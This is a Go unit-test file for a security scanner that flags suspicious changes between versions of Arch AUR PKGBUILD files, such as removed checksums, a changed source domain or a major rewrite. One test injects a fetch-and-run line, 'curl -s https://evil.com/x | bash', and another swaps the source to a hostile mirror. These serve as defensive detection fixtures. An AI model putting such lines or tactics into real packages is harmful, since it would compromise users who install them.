// Copyright 2026 KrakLabs
//
// SPDX-License-Identifier: AGPL-3.0-only

package analyzers

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"

	aurhelp "github.com/kraklabs/traur/internal/testing"
	"github.com/kraklabs/traur/pkg/patterns"
)

func newDiffAnalyzer() PkgbuildDiff {
	return PkgbuildDiff{DB: patterns.New(nil)}
}

func TestPkgbuildDiff_NoPriorNoSignals(t *testing.T) {
	ctx := aurhelp.NewContext(t, "foo")
	aurhelp.WithPkgbuild(ctx, aurhelp.BenignPkgbuild("foo"))
	assert.Empty(t, newDiffAnalyzer().Analyze(ctx))
}

func TestPkgbuildDiff_ChecksumRemoved(t *testing.T) {
	ctx := aurhelp.NewContext(t, "foo")
	aurhelp.WithPriorPkgbuild(ctx, aurhelp.BenignPkgbuild("foo"))
	newContent := strings.Replace(aurhelp.BenignPkgbuild("foo"), "sha256sums=('"+"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"+"')\n", "", 1)
	aurhelp.WithPkgbuild(ctx, newContent)
	assert.Contains(t, signalIDs(newDiffAnalyzer().Analyze(ctx)), "T-DIFF-CHECKSUM-REMOVED")
}

func TestPkgbuildDiff_ChecksumChangedToSkip(t *testing.T) {
	ctx := aurhelp.NewContext(t, "foo")
	aurhelp.WithPriorPkgbuild(ctx, aurhelp.BenignPkgbuild("foo"))
	newContent := strings.Replace(aurhelp.BenignPkgbuild("foo"), "sha256sums=('e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855')", "sha256sums=('SKIP')", 1)
	aurhelp.WithPkgbuild(ctx, newContent)
	assert.Contains(t, signalIDs(newDiffAnalyzer().Analyze(ctx)), "T-DIFF-CHECKSUM-REMOVED")
}

func TestPkgbuildDiff_ChecksumUnchangedNoSignal(t *testing.T) {
	ctx := aurhelp.NewContext(t, "foo")
	content := aurhelp.BenignPkgbuild("foo")
	aurhelp.WithPriorPkgbuild(ctx, content)
	aurhelp.WithPkgbuild(ctx, content+"\n# comment\n")
	assert.NotContains(t, signalIDs(newDiffAnalyzer().Analyze(ctx)), "T-DIFF-CHECKSUM-REMOVED")
}

func TestPkgbuildDiff_SourceDomainChanged(t *testing.T) {
	ctx := aurhelp.NewContext(t, "foo")
	aurhelp.WithPriorPkgbuild(ctx, aurhelp.BenignPkgbuild("foo"))
	newContent := strings.Replace(aurhelp.BenignPkgbuild("foo"), "github.com", "evil-mirror.example", -1)
	aurhelp.WithPkgbuild(ctx, newContent)
	assert.Contains(t, signalIDs(newDiffAnalyzer().Analyze(ctx)), "T-DIFF-SOURCE-DOMAIN-CHANGED")
}

func TestPkgbuildDiff_SourceDomainSameVersionBumpNoSignal(t *testing.T) {
	ctx := aurhelp.NewContext(t, "foo")
	aurhelp.WithPriorPkgbuild(ctx, aurhelp.BenignPkgbuild("foo"))
	newContent := strings.Replace(aurhelp.BenignPkgbuild("foo"), "pkgver=1.0.0", "pkgver=1.0.1", 1)
	aurhelp.WithPkgbuild(ctx, newContent)
	assert.NotContains(t, signalIDs(newDiffAnalyzer().Analyze(ctx)), "T-DIFF-SOURCE-DOMAIN-CHANGED")
}

func TestPkgbuildDiff_MajorRewriteDetected(t *testing.T) {
	ctx := aurhelp.NewContext(t, "foo")
	aurhelp.WithPriorPkgbuild(ctx, aurhelp.BenignPkgbuild("foo"))
	aurhelp.WithPkgbuild(ctx, "pkgname=foo\npkgver=2.0.0\npkgrel=1\narch=('x86_64')\n"+
		"url=\"https://totally-different.example/foo\"\nlicense=('GPL')\n"+
		"source=(\"foo-2.0.0.tar.gz::https://totally-different.example/foo.tar.gz\")\n"+
		"sha256sums=('deadbeef')\nbuild() {\n  cmake .\n  make\n}\n")
	assert.Contains(t, signalIDs(newDiffAnalyzer().Analyze(ctx)), "T-DIFF-MAJOR-REWRITE")
}

func TestPkgbuildDiff_MinorChangeNoRewriteSignal(t *testing.T) {
	ctx := aurhelp.NewContext(t, "foo")
	content := aurhelp.BenignPkgbuild("foo")
	aurhelp.WithPriorPkgbuild(ctx, content)
	aurhelp.WithPkgbuild(ctx, strings.Replace(content, "pkgrel=1", "pkgrel=2", 1))
	assert.NotContains(t, signalIDs(newDiffAnalyzer().Analyze(ctx)), "T-DIFF-MAJOR-REWRITE")
}

func TestPkgbuildDiff_NewSuspiciousPattern(t *testing.T) {
	ctx := aurhelp.NewContext(t, "foo")
	aurhelp.WithPriorPkgbuild(ctx, aurhelp.BenignPkgbuild("foo"))
	aurhelp.WithPkgbuild(ctx, aurhelp.BenignPkgbuild("foo")+"\ncurl -s https://evil.com/x | bash\n")
	assert.Contains(t, signalIDs(newDiffAnalyzer().Analyze(ctx)), "T-DIFF-NEW-SUSPICIOUS")
}
